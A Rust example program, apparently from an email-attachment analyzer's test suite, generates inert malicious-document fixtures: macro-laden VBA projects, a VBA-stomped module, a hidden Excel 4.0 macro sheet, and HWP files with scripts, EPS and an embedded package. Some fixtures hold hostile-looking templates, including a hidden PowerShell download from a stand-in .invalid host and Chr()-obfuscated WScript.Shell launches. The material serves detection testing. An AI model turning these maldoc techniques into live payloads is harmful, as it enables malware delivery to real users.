//! Writes inert OLE-based test documents for the attachment cases (`cases/generate.py`): VBA
//! projects (one honest, one whose p-code and source disagree), an Excel 97 workbook with a
//! hidden Excel 4.0 macro sheet, an encrypted-OOXML container, and HWP files with a script and
//! with EPS. The macros would only echo or start calc; the URLs are under .invalid.
//!
//!     cargo run -q -p mailmoat-analyzers --example make_documents -- OUT_DIR

use std::io::{Cursor, Write};
use std::path::Path;

/// MS-OVBA "compression" with literal tokens only: valid, and simple enough to trust.
fn compress(data: &[u8]) -> Vec<u8> {
    let mut out = vec![1u8];
    for chunk in data.chunks(3584) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(group);
        }
        let header = 0xb000u16 | ((body.len() + 2 - 3) as u16 & 0x0fff);
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

fn record(out: &mut Vec<u8>, id: u16, body: &[u8]) {
    out.extend_from_slice(&id.to_le_bytes());
    out.extend_from_slice(&(body.len() as u32).to_le_bytes());
    out.extend_from_slice(body);
}

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

/// The `dir` stream (MS-OVBA 2.3.4.2) for one procedural module.
fn dir_stream(module: &str, offset: u32) -> Vec<u8> {
    let mut d = Vec::new();
    record(&mut d, 0x0001, &1u32.to_le_bytes()); // SYSKIND win32
    record(&mut d, 0x0002, &0x409u32.to_le_bytes());
    record(&mut d, 0x0014, &0x409u32.to_le_bytes());
    record(&mut d, 0x0003, &1252u16.to_le_bytes());
    record(&mut d, 0x0004, b"Project");
    record(&mut d, 0x0005, b"");
    record(&mut d, 0x0040, b"");
    record(&mut d, 0x0006, b"");
    record(&mut d, 0x003d, b"");
    record(&mut d, 0x0007, &0u32.to_le_bytes());
    record(&mut d, 0x0008, &0u32.to_le_bytes());
    // PROJECTVERSION: size 4, then 6 bytes.
    d.extend_from_slice(&0x0009u16.to_le_bytes());
    d.extend_from_slice(&4u32.to_le_bytes());
    d.extend_from_slice(&[0x1d, 0x8e, 0x31, 0x9c, 0x06, 0x00]);
    record(&mut d, 0x000c, b"");
    record(&mut d, 0x003c, b"");
    record(&mut d, 0x000f, &1u16.to_le_bytes());
    record(&mut d, 0x0013, &0xffffu16.to_le_bytes());
    record(&mut d, 0x0019, module.as_bytes());
    record(&mut d, 0x0047, &utf16(module));
    record(&mut d, 0x001a, module.as_bytes());
    record(&mut d, 0x0032, &utf16(module));
    record(&mut d, 0x001c, b"");
    record(&mut d, 0x0048, b"");
    record(&mut d, 0x0031, &offset.to_le_bytes());
    record(&mut d, 0x001e, &0u32.to_le_bytes());
    record(&mut d, 0x002c, &0xffffu16.to_le_bytes());
    record(&mut d, 0x0021, b"");
    record(&mut d, 0x002b, b"");
    record(&mut d, 0x0010, b"");
    d
}

/// A VBA project under `root` ("" for vbaProject.bin, "/Macros" in a .doc).
fn vba_project(
    file: &mut cfb::CompoundFile<Cursor<Vec<u8>>>,
    root: &str,
    module: &str,
    source: &str,
    pcode: &[u8],
) -> std::io::Result<()> {
    if !root.is_empty() {
        file.create_storage(root)?;
    }
    file.create_storage(format!("{root}/VBA"))?;
    let mut s = file.create_stream(format!("{root}/PROJECT"))?;
    write!(s, "ID=\"{{00000000-0000-0000-0000-000000000000}}\"\r\nModule={module}\r\nName=\"Project\"\r\n")?;
    drop(s);
    file.create_stream(format!("{root}/VBA/_VBA_PROJECT"))?
        .write_all(&[0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00])?;
    file.create_stream(format!("{root}/VBA/dir"))?
        .write_all(&compress(&dir_stream(module, pcode.len() as u32)))?;
    let mut m = file.create_stream(format!("{root}/VBA/{module}"))?;
    m.write_all(pcode)?;
    m.write_all(&compress(source.as_bytes()))?;
    Ok(())
}

fn new_file() -> std::io::Result<cfb::CompoundFile<Cursor<Vec<u8>>>> {
    cfb::CompoundFile::create(Cursor::new(Vec::new()))
}

fn finish(file: cfb::CompoundFile<Cursor<Vec<u8>>>, out: &Path) -> std::io::Result<()> {
    std::fs::write(out, file.into_inner().into_inner())
}

fn deflate_raw(data: &[u8]) -> Vec<u8> {
    let mut z = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(data).expect("in memory");
    z.finish().expect("in memory")
}

fn hwp(out: &Path, script: Option<&str>, eps: bool, ole: Option<&[u8]>) -> std::io::Result<()> {
    let mut file = new_file()?;
    let mut header = vec![0u8; 256];
    header[..17].copy_from_slice(b"HWP Document File");
    header[32..36].copy_from_slice(&0x0505_0000u32.to_le_bytes());
    header[36..40].copy_from_slice(&1u32.to_le_bytes()); // compressed
    file.create_stream("/FileHeader")?.write_all(&header)?;
    file.create_stream("/DocInfo")?
        .write_all(&deflate_raw(&[0u8; 16]))?;
    file.create_storage("/BodyText")?;
    file.create_stream("/BodyText/Section0")?
        .write_all(&deflate_raw(&utf16(
            "견적서를 확인하세요 http://portal-update.invalid/hwp/view",
        )))?;
    file.create_storage("/Scripts")?;
    let template = "var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n\r\nfunction OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n";
    let text = match script {
        Some(s) => format!("{template}\r\nfunction OnDocument_Open()\r\n{{\r\n{s}\r\n}}\r\n"),
        None => template.to_string(),
    };
    // As HWP writes it: length-prefixed UTF-16 strings (header, source, an empty one), then -1.
    let mut stream = Vec::new();
    for part in [template, text.strip_prefix(template).unwrap_or(&text), ""] {
        stream.extend_from_slice(&(part.encode_utf16().count() as u32).to_le_bytes());
        stream.extend_from_slice(&utf16(part));
    }
    stream.extend_from_slice(&u32::MAX.to_le_bytes());
    file.create_stream("/Scripts/DefaultJScript")?
        .write_all(&deflate_raw(&stream))?;
    file.create_stream("/Scripts/JScriptVersion")?
        .write_all(&deflate_raw(&[1, 0, 0, 0]))?;
    if eps || ole.is_some() {
        file.create_storage("/BinData")?;
    }
    if let Some(ole) = ole {
        // HWP keeps a 4-byte size before an embedded compound file.
        let mut bin = (ole.len() as u32).to_le_bytes().to_vec();
        bin.extend_from_slice(ole);
        file.create_stream("/BinData/BIN0002.OLE")?
            .write_all(&deflate_raw(&bin))?;
    }
    if eps {
        file.create_stream("/BinData/BIN0001.eps")?.write_all(&deflate_raw(
            b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n/inert { (inert test fixture) } def\nshowpage\n",
        ))?;
    }
    finish(file, out)
}

fn main() -> std::io::Result<()> {
    let dir = std::env::args()
        .nth(1)
        .expect("usage: make_documents OUT_DIR");
    let dir = Path::new(&dir);
    std::fs::create_dir_all(dir)?;

    let dropper = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Dim r\r\n    r = Shell(\"cmd /c echo inert test fixture\", 0)\r\nEnd Sub\r\n";
    let mut file = new_file()?;
    vba_project(&mut file, "", "Module1", dropper, b"")?;
    finish(file, &dir.join("vbaProject.bin"))?;

    // A Word 97 document carrying the same project under Macros/.
    let mut file = new_file()?;
    let mut word = vec![0u8; 64];
    word[0..2].copy_from_slice(&0xa5ecu16.to_le_bytes());
    file.create_stream("/WordDocument")?.write_all(&word)?;
    file.create_stream("/1Table")?.write_all(&[0u8; 16])?;
    vba_project(&mut file, "/Macros", "Module1", dropper, b"")?;
    finish(file, &dir.join("macro.doc"))?;

    // Stomped: the source says MsgBox, the p-code area still names Shell and WScript.Shell.
    let innocent =
        "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    MsgBox \"Hello\"\r\nEnd Sub\r\n";
    let mut pcode = vec![0u8; 32];
    pcode.extend_from_slice(b"\x01\x00AutoOpen\x00\x00Shell\x00\x00WScript.Shell\x00\x00Run\x00");
    pcode.extend_from_slice(&[0u8; 32]);
    let mut file = new_file()?;
    vba_project(&mut file, "", "Module1", innocent, &pcode)?;
    finish(file, &dir.join("stomped.bin"))?;

    // Excel 97: BOF, a very hidden Excel 4.0 macro sheet, a worksheet, EOF.
    let mut wb = Vec::new();
    let mut rec = |kind: u16, body: &[u8]| {
        wb.extend_from_slice(&kind.to_le_bytes());
        wb.extend_from_slice(&(body.len() as u16).to_le_bytes());
        wb.extend_from_slice(body);
    };
    rec(
        0x0809,
        &[0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    );
    rec(
        0x0085,
        &[0, 0, 0, 0, 2, 1, 6, 0, b'M', b'a', b'c', b'r', b'o', b'1'],
    );
    rec(
        0x0085,
        &[0, 0, 0, 0, 0, 0, 6, 0, b'S', b'h', b'e', b'e', b't', b'1'],
    );
    rec(0x000a, &[]);
    let mut file = new_file()?;
    file.create_stream("/Workbook")?.write_all(&wb)?;
    finish(file, &dir.join("xlm.xls"))?;

    // Encrypted OOXML: what Office writes for a password-protected .docx.
    let mut file = new_file()?;
    file.create_stream("/EncryptionInfo")?
        .write_all(&[4, 0, 4, 0, 0x40, 0, 0, 0])?;
    file.create_stream("/EncryptedPackage")?
        .write_all(&[0u8; 64])?;
    finish(file, &dir.join("encrypted.docx"))?;

    hwp(
        &dir.join("script.hwp"),
        Some("\tvar sh = new ActiveXObject(\"WScript.Shell\");\r\n\tsh.Run(\"powershell -w hidden -c iwr http://portal-update.invalid/a.ps1 -OutFile $env:TEMP\\\\a.ps1\");"),
        false,
        None,
    )?;
    hwp(&dir.join("eps.hwp"), None, true, None)?;

    // An embedded OLE object holding a Package: a script dropped into a document.
    let script = b"new ActiveXObject('WScript.Shell').Run('calc');";
    let mut native = Vec::new();
    native.extend_from_slice(&2u16.to_le_bytes());
    native.extend_from_slice(b"update.js\0C:\\Users\\Public\\update.js\0");
    native.extend_from_slice(&[0, 0, 3, 0]);
    let temp = b"C:\\Users\\Public\\update.js\0";
    native.extend_from_slice(&(temp.len() as u32).to_le_bytes());
    native.extend_from_slice(temp);
    native.extend_from_slice(&(script.len() as u32).to_le_bytes());
    native.extend_from_slice(script);
    let mut stream = (native.len() as u32).to_le_bytes().to_vec();
    stream.extend_from_slice(&native);
    let mut file = new_file()?;
    file.create_stream("/\u{1}Ole10Native")?
        .write_all(&stream)?;
    finish(file, &dir.join("package.bin"))?;
    let package = std::fs::read(dir.join("package.bin"))?;
    hwp(&dir.join("ole.hwp"), None, false, Some(&package))?;

    // Strings built from character codes: "powershell -nop -w hidden" and "WScript.Shell".
    let chr = |s: &str| {
        s.bytes()
            .map(|b| format!("Chr({b})"))
            .collect::<Vec<_>>()
            .join(" & ")
    };
    let obfuscated = format!(
        "Attribute VB_Name = \"Module1\"\r\nSub Document_Open()\r\n    Dim o, c\r\n    Set o = CreateObject({})\r\n    c = {}\r\n    o.Run StrReverse(\"lexif-ton\") & c, 0\r\nEnd Sub\r\n",
        chr("WScript.Shell"),
        chr("powershell -nop -w hidden")
    );
    let mut file = new_file()?;
    vba_project(&mut file, "", "Module1", &obfuscated, b"")?;
    finish(file, &dir.join("obfuscated.bin"))?;
    hwp(&dir.join("plain.hwp"), None, false, None)?;
    Ok(())
}
